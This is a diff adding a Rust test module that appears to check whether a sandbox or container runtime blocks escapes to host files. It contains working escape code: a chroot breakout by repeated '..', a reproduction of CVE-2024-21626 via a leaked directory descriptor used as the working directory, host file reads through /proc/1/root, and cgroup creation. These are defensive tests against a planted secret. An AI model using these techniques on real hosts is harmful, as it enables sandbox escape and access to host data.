@@ -1,0 +1,115 @@
+//! Attacks that chapter 8 stops: on files that are the host's.
+
+use std::{
+    os::fd::{AsRawFd, OwnedFd},
+    path::{Path, PathBuf},
+};
+
+use super::{Loot, from_inside};
+use crate::{
+    Scene,
+    scene::{self, Stop},
+    subject::Request,
+};
+
+const SECRET: &str = "hunter2";
+
+/// A secret in a file of the host.
+fn secret(scene: &Scene) -> Result<PathBuf, Stop> {
+    let file = scene.host_place()?.join("secret");
+    fs_err::write(&file, SECRET)?;
+    Ok(file)
+}
+
+pub(super) fn read_host_file(scene: &Scene) -> Result<(bool, String), Stop> {
+    let loot = from_inside(scene, "read_host_file", &[&secret(scene)?.to_string_lossy()])?;
+    Ok((loot.got_through, loot.evidence))
+}
+
+pub(super) fn write_host_file(scene: &Scene) -> Result<(bool, String), Stop> {
+    let file = secret(scene)?;
+    let loot = from_inside(scene, "write_host_file", &[&file.to_string_lossy()])?;
+    let changed = fs_err::read_to_string(&file)? != SECRET;
+    Ok((
+        changed,
+        format!("{}; the host's file is {}", loot.evidence, if changed { "changed" } else { "as it was" }),
+    ))
+}
+
+pub(super) fn escape_chroot(scene: &Scene) -> Result<(bool, String), Stop> {
+    let loot = from_inside(scene, "escape_chroot", &[&secret(scene)?.to_string_lossy()])?;
+    Ok((loot.got_through, loot.evidence))
+}
+
+/// CVE-2024-21626: a working directory that is a descriptor on a directory outside.
+pub(super) fn start_on_the_host(scene: &Scene) -> Result<(bool, String), Stop> {
+    let folder = secret(scene)?.parent().map(Path::to_owned).unwrap_or_default();
+    let left_open = OwnedFd::from(fs_err::File::open(&folder)?.into_parts().0);
+    nix::fcntl::fcntl(&left_open, nix::fcntl::FcntlArg::F_SETFD(nix::fcntl::FdFlag::empty()))
+        .map_err(std::io::Error::from)?;
+    let workdir = Some(format!("/proc/self/fd/{}", left_open.as_raw_fd()).into());
+    let request = Request { workdir, ..scene.attacker("read_host_file", &["./secret"])? };
+    let ended = scene.run_with(&request, |caller| {
+        caller.current_dir(&folder);
+    })?;
+    match ended.json::<Loot>() {
+        Ok(loot) => Ok((loot.got_through, loot.evidence)),
+        Err(_) if !ended.status.success() => {
+            Ok((false, format!("the runtime refused it: {}", ended.stderr.trim())))
+        }
+        Err(stop) => Err(stop),
+    }
+}
+
+pub(super) fn change_groups(scene: &Scene) -> Result<(bool, String), Stop> {
+    scene.needs_groups()?;
+    let loot = from_inside(scene, "change_groups", &[])?;
+    Ok((loot.got_through, loot.evidence))
+}
+
+/// The half inside of [`read_host_file`]: the file by its name, from above the root, and by way of `/proc`.
+pub(super) fn read(path: &str) -> Loot {
+    let prefixes = ["", "/..", "/proc/1/root", "/proc/1/root/.."];
+    let prefixes = if path.starts_with('/') { &prefixes[..] } else { &prefixes[..1] };
+    let found = prefixes.iter().find_map(|prefix| {
+        let path = format!("{prefix}{path}");
+        fs_err::read_to_string(&path).ok().map(|text| format!("{path}: {text:?}"))
+    });
+    Loot::of(found.ok_or_else(|| format!("no way leads to {path}")), |found| found)
+}
+
+/// The half inside of [`write_host_file`].
+pub(super) fn write(path: &str) -> Loot {
+    let written = fs_err::write(path, "owned").map_err(|error| error.to_string());
+    Loot::of(written, |()| format!("wrote to {path}"))
+}
+
+/// The half inside of [`escape_chroot`]: who may call chroot(2) walks out of one, because the call changes the
+/// root and not where one stands. From below the new root `..` meets no wall.
+pub(super) fn walk_out(path: &str) -> Loot {
+    let walk = || -> std::io::Result<()> {
+        let here = std::env::current_exe()?;
+        std::env::set_current_dir("/")?;
+        std::os::unix::fs::chroot(here.parent().unwrap_or(&here))?;
+        for _ in 0..32 {
+            std::env::set_current_dir("..")?;
+        }
+        std::os::unix::fs::chroot(".")
+    };
+    match walk() {
+        // Without the power to do it one is in no chroot either: the file is read, or not, from where one is.
+        Ok(()) | Err(_) => read(path),
+    }
+}
+
+/// The half inside of [`change_groups`]: find a group that we are in, and make one below it. In version 2 whoever
+/// may do that can hand controllers out as well.
+pub(super) fn make_group() -> Loot {
+    let own = std::process::id().to_string();
+    let made = scene::groups_with(&own)
+        .into_iter()
+        .map(|group| group.join("made-inside"))
+        .find(|group| fs_err::create_dir(group).and_then(|()| fs_err::remove_dir(group)).is_ok());
+    let made = made.ok_or_else(|| "there is no group of ours that can be written to".to_owned());
+    Loot::of(made, |group| format!("made and removed {}", group.display()))
+}
